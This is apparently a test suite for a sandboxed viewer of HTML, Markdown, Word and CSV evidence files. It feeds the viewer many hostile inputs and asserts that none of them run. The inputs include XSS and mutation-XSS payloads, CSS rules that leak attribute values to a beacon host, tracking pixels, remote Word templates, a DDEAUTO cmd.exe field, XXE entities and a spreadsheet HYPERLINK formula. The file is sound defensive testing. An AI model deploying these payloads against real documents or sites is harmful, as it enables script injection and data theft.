import { afterEach, beforeEach, describe, expect, inject, test, vi } from 'vitest'
import type { EvidenceItem } from '../../../shared/domain'
import { evidenceItem, showViewer, type ShownViewer } from './show-viewer'
import { paragraph, picture, relationship, WORD, wordFile } from './word-files'

/**
 * Attacks on the reading frame, each with the signs by which it would have worked: a request that reached a server, a global of ours
 * changed, a dialog, a window or the frame gone elsewhere. The first tests prove that the signs are seen where nothing protects.
 */
let viewer: ShownViewer | null = null
let attempt = 0
/** Where the attack of this test calls home. */
let home = ''

const harmed = () => Object.keys(window).filter((name) => name.startsWith('harmed'))
const dialogs = { alert: vi.fn(), confirm: vi.fn(), prompt: vi.fn(), open: vi.fn() }

beforeEach(() => {
  attempt += 1
  home = `${inject('beacon')}/attack-${Date.now()}-${attempt}`
  for (const name of ['alert', 'confirm', 'prompt', 'open'] as const) vi.spyOn(window, name).mockImplementation(dialogs[name])
})
afterEach(() => {
  viewer?.close()
  viewer = null
  vi.restoreAllMocks()
  for (const spy of Object.values(dialogs)) spy.mockClear()
  for (const name of harmed()) Reflect.deleteProperty(window, name)
})

async function callsHome(): Promise<string[]> {
  const test = home.slice(home.lastIndexOf('/') + 1)
  return (await fetch(`${inject('beacon')}/seen/${test}/`)).json()
}

const pause = (ms: number) => new Promise((settle) => setTimeout(settle, ms))
const frame = () => viewer?.element.querySelector('iframe') ?? null
const words = () => frame()?.contentDocument?.querySelector<HTMLElement>('.words') ?? null

/** Shows the attack, does what a reader might do to it, and waits as long as an attack needs. */
async function suffer(item: EvidenceItem, bytes: Uint8Array): Promise<HTMLElement> {
  viewer = await showViewer(item, bytes)
  const shown = await vi.waitFor(
    () => {
      const found = words()
      if (!found?.textContent?.includes('The end.')) throw new Error('not shown yet')
      return found
    },
    { timeout: 15_000 },
  )
  for (const element of shown.querySelectorAll<HTMLElement>('*')) {
    for (const type of ['pointerover', 'mouseover', 'focus', 'animationstart', 'toggle'])
      element.dispatchEvent(new Event(type, { bubbles: true }))
    element.click()
  }
  await pause(500)
  return shown
}

async function expectHarmless(shown: HTMLElement): Promise<void> {
  expect(harmed(), 'globals').toEqual([])
  expect(await callsHome(), 'requests').toEqual([])
  for (const [name, spy] of Object.entries(dialogs)) expect(spy, name).not.toHaveBeenCalled()
  expect(words(), 'the frame went elsewhere').toBe(shown)
  expect(frame()?.contentWindow?.location.href).toBe('about:srcdoc')
  expect(
    viewer?.opened.filter((url) => !url.startsWith('https:')),
    'links',
  ).toEqual([])
  const attributes = [...shown.querySelectorAll('*')].flatMap((element) => element.getAttributeNames())
  expect(
    attributes.filter((name) => /^on|^style$|^srcset$|^ping$|^action$|^formaction$/.test(name)),
    'attributes',
  ).toEqual([])
  expect(
    shown.querySelectorAll(
      'script, style, link, meta, base, iframe, frame, object, embed, svg, math, form, input, button, video, audio, template',
    ),
    'elements',
  ).toHaveLength(0)
}

const html = evidenceItem({ mediaType: 'text/html', kind: 'link' })
const bytesOf = (text: string) => new TextEncoder().encode(text)

describe('the signs of harm', () => {
  test('are seen where a page isn’t protected', async () => {
    const open = document.createElement('iframe')
    open.srcdoc = `<img src="${home}/picture"><script>parent.harmed = 1; parent.alert('harm')</script>`
    document.body.append(open)
    await expect.poll(callsHome).toEqual([expect.stringContaining('/picture')])
    await expect.poll(harmed).toEqual(['harmed'])
    expect(dialogs.alert).toHaveBeenCalled()
    open.remove()
  })

  test('are seen where styles call home', async () => {
    const open = document.createElement('iframe')
    open.srcdoc = `<style>p { background: url(${home}/style) }</style><p>Words</p>`
    document.body.append(open)
    await expect.poll(callsHome).toEqual([expect.stringContaining('/style')])
    open.remove()
  })
})

describe('a hostile page', () => {
  const ATTACKS: Record<string, (home: string) => string> = {
    'a script': (to) =>
      `<script>top.harmed = 1</script><script src="${to}/s.js"></script><script type=module>top.harmed2=1</script>`,
    'event handlers': () =>
      '<img src=x onerror="top.harmed=1"><p onclick="top.harmed2=1" onpointerover="top.harmed3=1">x</p><details open ontoggle="top.harmed4=1">x</details>' +
      '<body onload="top.harmed5=1"><a autofocus tabindex=0 onfocus="top.harmed6=1">x</a><p style="animation:x" onanimationstart="top.harmed7=1">x</p>',
    'an SVG with a script': (to) =>
      `<svg onload="top.harmed=1"><script>top.harmed2=1</script><a xlink:href="javascript:top.harmed3=1"><text y=20>x</text></a>` +
      `<image href="${to}/i.png"/><set attributeName=onmouseover to="top.harmed4=1"/><animate onbegin="top.harmed5=1"/></svg>`,
    'an SVG with foreign objects and uses': (to) =>
      `<svg><foreignObject><iframe src="${to}/frame"></iframe><img src=x onerror="top.harmed=1"></foreignObject>` +
      `<use href="${to}/sprite.svg#x"/><use xlink:href="data:image/svg+xml,<svg id='x' onload='top.harmed2=1'/>#x"/><feImage href="${to}/fe"/></svg>`,
    'an SVG as a picture': (to) =>
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.harmed=1'><image href='${to}/svg'/><style>@import '${to}/css'</style></svg>">` +
      `<img src="data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg"><script>top.harmed2=1</script><image href="${to}/base64"/></svg>`)}">`,
    'styles that call home': (to) =>
      `<style>@import url(${to}/import); body { background: url(${to}/body) } @font-face { font-family: x; src: url(${to}/font) } p { font-family: x; cursor: url(${to}/c), auto }` +
      `.words { list-style-image: url(${to}/list) } .left-out::before { content: url(${to}/content) }</style><p style="background:url(${to}/attribute)">x</p><link rel=stylesheet href="${to}/sheet">`,
    'styles that read attributes out': (to) =>
      `<style>a[href^="https://secret"] { background: url(${to}/leak) } :root { --x: url(${to}/variable) } iframe, main { background: var(--x) }</style><a href="https://secret.example/token">x</a>`,
    refreshes: (to) =>
      `<meta http-equiv="refresh" content="0;url=${to}/refresh"><meta http-equiv=refresh content="0;url=javascript:top.harmed=1"><meta http-equiv="set-cookie" content="x=1">`,
    'a base': (to) => `<base href="${to}/base/"><a href="page">x</a><img src="relative.png">`,
    forms: (to) =>
      `<form action="${to}/form" id=f><input name=x value=1 autofocus onfocus="top.harmed=1"><button>Send</button><input type=image src="${to}/image"></form>` +
      `<button form=f formaction="${to}/other">Send</button><isindex action="${to}/index">`,
    'frames and plugins': (to) =>
      `<iframe src="${to}/frame"></iframe><iframe srcdoc="<script>top.harmed=1</script>"></iframe><object data="${to}/object"></object><embed src="${to}/embed">` +
      `<frameset><frame src="${to}/set"></frameset><portal src="${to}/portal"></portal><fencedframe src="${to}/fenced"></fencedframe>`,
    'links that run': () =>
      '<a href="javascript:top.harmed=1">a</a><a href=" java\nscript:top.harmed2=1">b</a><a href="data:text/html,<script>top.harmed3=1</script>">c</a>' +
      '<a href="vbscript:x">d</a><area href="javascript:top.harmed4=1"><a target=_top href="javascript:top.harmed5=1">e</a><a href="blob:x">f</a><a href="file:///etc/passwd">g</a>',
    'tracking pixels': (to) =>
      `<img src="${to}/pixel.gif" width=1 height=1><img srcset="${to}/set.png 1x"><picture><source srcset="${to}/source"><img></picture><img loading=lazy src="${to}/lazy">` +
      `<video src="${to}/video" poster="${to}/poster" autoplay></video><audio src="${to}/audio" autoplay></audio><table background="${to}/table"><td background="${to}/td">x</table>` +
      `<a href="https://example.org/" ping="${to}/ping">x</a><bgsound src="${to}/sound"><input type=image src="${to}/input"><body background="${to}/body">`,
    'hints that load ahead': (to) =>
      `<link rel=preload as=image href="${to}/preload"><link rel=prefetch href="${to}/prefetch"><link rel=icon href="${to}/icon"><link rel=manifest href="${to}/manifest">` +
      `<link rel=dns-prefetch href="//leak.example"><link rel=modulepreload href="${to}/module"><link rel=import href="${to}/import">`,
    'names that hide ours': () =>
      '<p class="words surface" id="words">x</p><a id=documentElement name=body>x</a><img name=querySelector><form name=contentDocument><input name=parentElement></form>' +
      '<div id=getSelection></div><img name=adoptedStyleSheets><a id=defaultView href="https://example.org/">x</a><main class="surface">x</main>',
    'markup that changes when it is parsed again': () =>
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.harmed=1&gt;">' +
      '<svg></p><style><a id="</style><img src=1 onerror=top.harmed2=1>">' +
      '<noscript><p title="</noscript><img src=x onerror=top.harmed3=1>">' +
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.harmed4=1>' +
      '<svg><desc><![CDATA[</desc><script>top.harmed5=1</script>]]></svg>' +
      '<xmp><p title="</xmp><img src=x onerror=top.harmed6=1>"></xmp><select><template><style><!--</template><img src=x onerror=top.harmed7=1>--></style></select>' +
      '<math><annotation-xml encoding="text/html"><style><img src=x onerror=top.harmed8=1></style></annotation-xml></math>',
    'elements of its own': () =>
      '<x-harm onclick="top.harmed=1">x</x-harm><p is="x-p">x</p><div><template shadowrootmode=open><script>top.harmed2=1</script><slot></slot></template></div><slot onslotchange="top.harmed3=1"></slot>',
    'dialogs and popovers': (to) =>
      `<dialog open onclose="top.harmed=1"><iframe src="${to}/dialog"></iframe></dialog><div popover id=p onbeforetoggle="top.harmed2=1">x</div><button popovertarget=p>x</button>`,
  }

  test.each(Object.entries(ATTACKS))('with %s does nothing', async (_, attack) => {
    const shown = await suffer(html, bytesOf(`<p>The end.</p>${attack(home)}`))
    await expectHarmless(shown)
  })

  test.each(Object.entries(ATTACKS))('with %s does nothing in Markdown either', async (_, attack) => {
    const text = `# Before\n\n${attack(home)}\n\n![pixel](${home}/markdown.gif) [link](javascript:top.harmed=1) <${home}/auto>\n\nThe end.\n`
    const shown = await suffer(evidenceItem({ mediaType: 'text/markdown' }), bytesOf(text))
    await expectHarmless(shown)
  })

  test('can’t take our own marks or words for its own', async () => {
    const shown = await suffer(
      html,
      bytesOf(`${ATTACKS['names that hide ours']!('')}<div class="assay-marks">x</div><p>The end.</p>`),
    )
    expect(shown.querySelectorAll('[class]:not(.left-out), [id], [name]')).toHaveLength(0)
    expect(frame()!.contentDocument!.querySelectorAll('.words')).toHaveLength(1)
  })

  test('that draws a million things by a few lines is not drawn', async () => {
    const layers = Array.from({ length: 9 }, (_, at) => `<g id="l${at + 1}">${`<use href="#l${at}"/>`.repeat(10)}</g>`).join('')
    const shown = await suffer(
      html,
      bytesOf(`<svg aria-label="Boom"><rect id="l0" width="1" height="1"/>${layers}<use href="#l9"/></svg><p>The end.</p>`),
    )
    expect(shown.querySelector('img')).toBeNull()
    expect(shown.querySelector('.left-out')?.getAttribute('aria-label')).toContain('Boom')
  })

  test('that draws itself within itself is not drawn', async () => {
    const shown = await suffer(
      html,
      bytesOf('<svg><g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg><p>The end.</p>'),
    )
    expect(shown.querySelector('img')).toBeNull()
  })

  test('opens https links outside only, and only when they are clicked', async () => {
    viewer = await showViewer(html, bytesOf('<a href="https://example.org/live">two</a><p>The end.</p>'))
    await vi.waitFor(
      () => {
        if (!frame()?.contentDocument?.querySelector('.assay-marks')) throw new Error('not shown yet')
      },
      { timeout: 15_000 },
    )
    expect(viewer.opened).toEqual([])
    words()!.querySelector('a')!.click()
    expect(viewer.opened).toEqual(['https://example.org/live'])
  })
})

describe('the frame itself', () => {
  test('runs nothing and loads nothing even of what cleaning had missed', async () => {
    const shown = await suffer(html, bytesOf('<p>The end.</p>'))
    const missed = shown.ownerDocument.createElement('div')
    shown.append(missed)
    missed.innerHTML =
      `<img src="${home}/picture"><img src=x onerror="top.harmed=1"><iframe src="${home}/frame"></iframe><style>p { background: url(${home}/style) }</style>` +
      `<svg onload="top.harmed2=1"></svg><object data="${home}/object"></object><form action="${home}/form"><button>Send</button></form><link rel=stylesheet href="${home}/sheet">`
    const script = shown.ownerDocument.createElement('script')
    script.textContent = 'top.harmed3 = 1'
    missed.append(script)
    missed.querySelector('button')!.click()
    await pause(600)
    expect(harmed()).toEqual([])
    expect(await callsHome()).toEqual([])
  })
})

describe('a hostile Word document', () => {
  const word = evidenceItem({ mediaType: WORD, fileName: 'report.docx' })
  const end = paragraph('The end.')

  test.each<[string, () => Uint8Array]>([
    [
      'a picture that lies elsewhere',
      () =>
        wordFile({
          body: picture('r:link="rId9"', 'pixel') + end,
          relationships: relationship('rId9', 'image', `${home}/pixel.png`, true),
        }),
    ],
    [
      'a picture that is embedded from elsewhere',
      () =>
        wordFile({
          body: picture('r:embed="rId9"', 'pixel') + end,
          relationships: relationship('rId9', 'image', `${home}/pixel.png`, true),
        }),
    ],
    [
      'a template that lies elsewhere',
      () =>
        wordFile({
          body: end,
          relationships: relationship('rId8', 'settings', 'settings.xml'),
          parts: {
            'word/settings.xml':
              '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="x"><w:attachedTemplate r:id="rId1"/></w:settings>',
            'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship('rId1', 'attachedTemplate', `${home}/template.dotm`, true)}</Relationships>`,
          },
        }),
    ],
    [
      'contents of another format',
      () =>
        wordFile({
          body: `<w:altChunk r:id="rId7"/>${end}`,
          relationships: relationship('rId7', 'aFChunk', 'chunk.html'),
          parts: { 'word/chunk.html': `<script>top.harmed=1</script><img src="${home}/chunk">` },
        }),
    ],
    [
      'links that run',
      () =>
        wordFile({
          body: `<w:p><w:hyperlink r:id="rId6"><w:r><w:t>click</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>HYPERLINK "javascript:top.harmed2=1"</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>field</w:t><w:fldChar w:fldCharType="end"/></w:r></w:p>${end}`,
          relationships: relationship('rId6', 'hyperlink', 'javascript:top.harmed=1', true),
        }),
    ],
    [
      'fields that fetch',
      () =>
        wordFile({
          body: `<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE "${home}/field.png"</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>${end}`,
        }),
    ],
    [
      'an entity of another file',
      () =>
        wordFile({
          prologue: `<!DOCTYPE w [<!ENTITY x SYSTEM "${home}/entity"><!ENTITY % y SYSTEM "${home}/dtd"> %y;]>`,
          body: `${paragraph('Some words.')}${end}`,
        }),
    ],
    [
      'markup among its words',
      () =>
        wordFile({ body: paragraph('&lt;img src=x onerror="top.harmed=1"&gt;&lt;script&gt;top.harmed2=1&lt;/script&gt;') + end }),
    ],
    [
      'a map of styles that makes markup',
      () =>
        wordFile({
          body: paragraph(`Words`, 'Evil') + end,
          parts: { 'mammoth/style-map': `p.Evil => script:fresh\np => iframe[src='${home}/map']:fresh` },
        }),
    ],
  ])('with %s does nothing', async (_, file) => {
    const shown = await suffer(word, file())
    await expectHarmless(shown)
  })
})

describe('a hostile table', () => {
  test('has its formulas and its markup as the text that they are', async () => {
    const cells = `name,formula\n"<img src=${home}/cell onerror=top.harmed=1>","=HYPERLINK(""${home}/f"")"\n`
    viewer = await showViewer(evidenceItem({ mediaType: 'text/csv' }), bytesOf(cells))
    await expect
      .poll(() => viewer?.element.querySelector('[role="table"]')?.textContent ?? '', { timeout: 15_000 })
      .toContain('=HYPERLINK')
    await pause(300)
    expect(viewer.element.querySelector('[role="table"] img, [role="table"] a')).toBeNull()
    expect(harmed()).toEqual([])
    expect(await callsHome()).toEqual([])
  })
})
